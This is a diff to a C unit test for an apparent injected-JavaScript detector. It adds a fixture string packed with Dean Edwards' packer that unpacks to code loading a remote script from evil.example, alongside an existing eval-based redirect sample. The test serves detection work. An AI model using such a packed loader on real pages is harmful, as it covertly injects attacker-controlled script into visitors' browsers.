@@ -346,6 +346,17 @@ static void eval_and_timers(void **state)
 	const struct watch_js_dest *d = only(r, WATCH_REF_SCRIPT, "https://evil.example/l.js");
 	assert_true(d->flags & OBF);
 	assert_true(r->flags & WATCH_JSF_EVAL);
+	/* Dean Edwards' packer, the usual wrapper of injected code */
+	r = rd("eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c"
+		   "%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){"
+		   "while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return"
+		   "'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b'"
+		   ",'g'),k[c])}}return p}('0 1=2.3(\\'4\\');1.5=\\'6://7.8/9.a\\';2.b.c(1);',62,1"
+		   "3,'var|s|document|createElement|script|src|https|evil|example|x|js|body|append"
+		   "Child'.split('|'),0,{}))");
+	d = only(r, WATCH_REF_SCRIPT, "https://evil.example/x.js");
+	assert_true(d->flags & OBF);
+	assert_true(r->flags & WATCH_JSF_EVAL);
 	r = rd("setTimeout(\"location.href='http://evil.example/'\", 3000);");
 	d = only(r, WATCH_REF_REDIRECT, "http://evil.example/");
 	assert_true(r->flags & WATCH_JSF_EVAL);
